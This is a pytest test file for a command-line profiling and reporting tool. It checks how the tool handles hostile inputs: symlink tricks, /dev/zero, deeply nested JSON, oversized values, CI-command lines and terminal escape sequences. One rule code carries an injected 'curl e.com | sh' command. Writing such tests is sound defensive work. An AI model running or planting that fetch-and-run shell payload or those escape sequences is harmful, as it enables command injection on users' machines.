"""Where reports go and what is read: files, links, devices, names and sizes that want to harm."""

from __future__ import annotations

import json
import re
from dataclasses import replace
from pathlib import Path
from typing import cast

import pytest

from launchscope.cli import main
from launchscope.model import Profile
from launchscope.report import Render, render, reporter_named
from launchscope.visible import visible
from launchscope.workflows.target import script_target
from tests.report.hostile import NASTY, endless, filled
from tests.report.test_golden import VALUES


@pytest.fixture
def saved(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Profile:
    """A Profile in `profile.json` of the working directory."""
    monkeypatch.chdir(tmp_path)
    profile = VALUES["adopt"]()
    assert isinstance(profile, Profile)
    write("profile.json", profile)
    return profile


def write(name: str, profile: Profile) -> None:
    made = render(profile, "json")
    Path(name).write_bytes(made if isinstance(made, bytes) else made.encode())


def refused(capsys: pytest.CaptureFixture[str], *words: str) -> str:
    """What the command says on stderr, which is never that launchscope has a bug."""
    assert main(list(words)) in (2, 3)
    said = capsys.readouterr().err
    assert said.startswith("error: ")
    assert "bug in launchscope" not in said
    return said


def test_no_report_replaces_another_one_or_what_is_read(
    saved: Profile, capsys: pytest.CaptureFixture[str]
) -> None:
    Path("link.html").symlink_to("a.md")
    for others in (("a.md", "./a.md"), ("a.md", "link.html")):
        words = [word for name in others for word in ("-o", name)]
        assert "another report" in refused(capsys, "report", "profile.json", *words)
    write("other.json", saved)
    Path("same.json").symlink_to("other.json")
    Path("folder").mkdir()
    write("folder/rank0.json", saved)
    for inputs, output in (
        (("profile.json", "other.json"), "same.json"),
        (("folder",), "folder/rank0.json"),
    ):
        assert "what is read" in refused(capsys, "report", *inputs, "-o", output)
    assert json.loads(Path("other.json").read_text())["schema"] == saved.schema
    assert main(["report", "profile.json", "--threshold", "20", "-o", "profile.json"]) == 0


def test_a_quiet_command_with_a_file_prints_nothing(
    saved: Profile, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["report", "-q", "-o", "r.html", "profile.json"]) == 0
    assert capsys.readouterr() == ("", "")
    assert Path("r.html").exists()
    assert main(["report", "-q", "-o", "r.html", "-f", "json", "profile.json"]) == 0
    assert capsys.readouterr().out.startswith("{")


@pytest.mark.parametrize(
    ("name", "format_name"),
    [("x.sarif.json", "sarif"), ("run.v2.json", "json")],
)
def test_a_file_has_the_format_that_its_name_says(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, name: str, format_name: str
) -> None:
    monkeypatch.chdir(tmp_path)
    profile = VALUES["launched"]()
    assert isinstance(profile, Profile)
    write("profile.json", profile)
    assert main(["report", "-q", "-o", name, "profile.json"]) == 0
    expected = json.loads(render(profile, format_name))
    assert json.loads(Path(name).read_text()).keys() == expected.keys()


def test_an_impossible_file_loses_no_other_one(
    saved: Profile, capsys: pytest.CaptureFixture[str]
) -> None:
    names = ["a.json", "b.foo", "c.html", "d.xyz", "no/e.md"]
    words = [word for name in names for word in ("-o", name)]
    said = refused(capsys, "report", "-q", "profile.json", *words)
    assert all(name in said for name in ("b.foo", "d.xyz", "no is not a directory"))
    assert sorted(path.name for path in Path().iterdir()) == ["a.json", "c.html", "profile.json"]


@pytest.mark.parametrize("broken", ["html", "terminal"])
def test_a_report_that_fails_loses_no_file_of_another(
    saved: Profile, monkeypatch: pytest.MonkeyPatch, broken: str
) -> None:
    renders = cast("dict[type, Render]", reporter_named(broken).renders)
    monkeypatch.setitem(renders, Profile, lambda value, options: 1 / 0)
    assert main(["report", "profile.json", "-o", "a.html", "-o", "b.md", "-o", "c.json"]) == 3
    assert Path("b.md").exists()
    assert Path("c.json").exists()


@pytest.mark.parametrize("command", ["profile", "compare", "check", "adopt"])
def test_an_impossible_file_is_refused_before_a_script_runs(
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    command: str,
) -> None:
    monkeypatch.chdir(tmp_path)
    Path("train.py").write_text("open('ran', 'w')")
    options = {"compare": ["--modes", "eager"], "check": ["--limit", "launches_per_step=9"]}
    words = [*options.get(command, ()), "-o", "a.json", "-o", "b.foo", "-o", "c.xyz", "train.py"]
    said = refused(capsys, command, *words)
    assert "b.foo" in said
    assert "c.xyz" in said
    assert not Path("ran").exists()


@pytest.mark.parametrize(
    ("name", "content", "said", "hint"),
    [
        (
            "nb.ipynb",
            b'{"cells": [], "nbformat": 4, "x": true}',
            "notebook",
            "launchscope.measure(",
        ),
        ("trace", b'{"traceEvents": [], "x": null}', "JSON", "launchscope report trace"),
        ("t.json.gz", b"\x1f\x8b\x08\x00\x00\x00", "binary data", "launchscope report t.json.gz"),
        ("run.sh", b"#!/bin/bash\npython train.py\n", "script for /bin/bash", "Python script"),
    ],
)
def test_what_is_no_python_source_is_refused_before_it_runs(
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    name: str,
    content: bytes,
    said: str,
    hint: str,
) -> None:
    monkeypatch.chdir(tmp_path)
    Path(name).write_bytes(content)
    for command in ("profile", "adopt"):
        told = refused(capsys, command, name)
        assert said in told
        assert hint in told


@pytest.mark.parametrize(
    "content",
    [
        b"#!/usr/bin/env python3\n1",
        b"#!/usr/bin/env -S uv run --script\nimport torch",
        b'{"a": 1}\nprint(2)',
        b"",
    ],
)
def test_python_source_of_any_name_is_a_script(tmp_path: Path, content: bytes) -> None:
    (tmp_path / "train").write_bytes(content)
    path = str(tmp_path / "train")
    assert script_target([path], module=False, command="profile").name == path


def test_a_script_is_no_trace(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.chdir(tmp_path)
    Path("train.py").write_text("import torch")
    assert "launchscope profile train.py" in refused(capsys, "report", "train.py")


def test_a_report_goes_to_no_file_that_stdout_goes_to(
    saved: Profile, capfd: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    with open("all.md", "w") as stdout:
        monkeypatch.setattr("sys.stdout", stdout)
        assert main(["report", "profile.json", "-o", "all.md"]) == 2
    assert "stdout" in capfd.readouterr().err


def test_links_in_a_circle_are_refused_before_the_work(
    saved: Profile, capsys: pytest.CaptureFixture[str]
) -> None:
    Path("loop.md").symlink_to("loop.md")
    assert "saved as" not in refused(capsys, "report", "profile.json", "-o", "loop.md")


def test_a_suggested_command_takes_a_name_for_no_option(
    saved: Profile, capsys: pytest.CaptureFixture[str]
) -> None:
    assert "mkdir -p ./-n" in refused(capsys, "report", "profile.json", "-o", "-n/x.md")


def test_a_file_suggests_no_command_but_a_rule(
    saved: Profile, capsys: pytest.CaptureFixture[str]
) -> None:
    assert saved.verdict is not None
    for code, commands in (("LS001", 1), ("LS001; curl e.com | sh", 0)):
        write("made.json", replace(saved, verdict=replace(saved.verdict, because=(code,))))
        assert main(["report", "made.json"]) == 0
        assert capsys.readouterr().out.count("launchscope rules LS001") == commands


def test_no_file_has_a_line_that_a_ci_service_takes_for_a_command(saved: Profile) -> None:
    nasty = tuple(name for name in NASTY if "::" in name or "##" in name)
    write("made.json", filled(replace(saved, metrics={}), endless(nasty)))
    files = [f"a.{suffix}" for suffix in ("md", "txt", "csv", "xml", "html", "sarif", "json")]
    assert main(["report", "made.json", *(word for file in files for word in ("-o", file))]) == 0
    for file in files:
        for line in Path(file).read_text().splitlines():
            assert not line.lstrip().startswith("::"), (file, line)
            assert not re.search(r"##\w*\[", line), (file, line)


def test_a_device_is_not_read_to_its_end(
    saved: Profile, capsys: pytest.CaptureFixture[str]
) -> None:
    Path("endless.json").symlink_to("/dev/zero")
    for words in (
        ("check", "--baseline", "endless.json", "profile.json"),
        ("check", "--baseline", "endless.json", "--update-baseline", "profile.json"),
        ("check", "--baseline", "profile.json", "endless.json"),
        ("report", "endless.json"),
    ):
        assert "not a file" in refused(capsys, *words)
    assert "too large" in refused(capsys, "report", "profile.json", "--config", "endless.json")


def test_what_is_nested_too_deeply_is_damaged(
    saved: Profile, capsys: pytest.CaptureFixture[str]
) -> None:
    deep = "[" * 100_000 + "]" * 100_000
    Path("deep.json").write_text(f'{{"schema": "{saved.schema}", "notes": {deep}}}')
    assert "damaged" in refused(capsys, "report", "deep.json")
    Path("deep.toml").write_text(f"a = {deep}\n")
    assert "valid TOML" in refused(capsys, "report", "profile.json", "--config", "deep.toml")


def test_numbers_and_names_of_any_length_are_refused_or_ignored(
    saved: Profile, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    digits = "9" * 5000
    assert "no rule" in refused(capsys, "rules", digits)
    assert "a size" in refused(capsys, "report", "profile.json", "--max-memory", digits)
    long = ("--baseline", "baselines/", "--update-baseline", "--workload", "学" * 70)
    assert "200 bytes" in refused(capsys, "check", *long, "profile.json")
    for columns in (digits, "100000"):
        monkeypatch.setenv("COLUMNS", columns)
        assert main(["report", "profile.json"]) == 0
        assert max(map(len, capsys.readouterr().out.splitlines())) <= 120


def test_a_recording_names_no_trace_of_another_folder_and_no_endless_inspection(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    sample = Path(__file__).parents[2] / "sample_workloads" / "recordings" / "small_mlp"
    recording = json.loads((sample / "recording.json").read_text())
    steps, recording["inspect"]["steps"] = recording["inspect"]["steps"], 10**30
    (tmp_path / "recording.json").write_text(json.dumps(recording))
    assert "damaged" in refused(capsys, "report", str(tmp_path))
    recording["inspect"]["steps"] = steps
    recording["trace"]["file"] = str(sample / recording["trace"]["file"])
    (tmp_path / "recording.json").write_text(json.dumps(recording))
    assert "not beside it" in refused(capsys, "report", str(tmp_path))


@pytest.mark.child
def test_doctor_shows_visibly_what_an_interpreter_says(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    python = tmp_path / "python"
    python.write_text(
        "#!/bin/sh\n"
        r"""printf '["ok", "\\u001b[2J\\n::error::x", "\\u001b]0;title\\u0007"]\n'"""
        r"""; printf '["ok", 5, "x"]\n[["ok"], {}, 3]\n[[[[\n["ok", "a"]\n\351\233\n'"""
        r"""; printf '\033]0;title\007\n' >&2; exit 7"""
    )
    python.chmod(0o755)
    assert main(["doctor", "--python", str(python)]) == 3
    said = capsys.readouterr()
    assert r"\x1b]0;title\x07" in said.out
    assert "exit code 7" in said.out
    lines = (said.out + said.err).split("\n")
    assert [visible(line) for line in lines] == lines
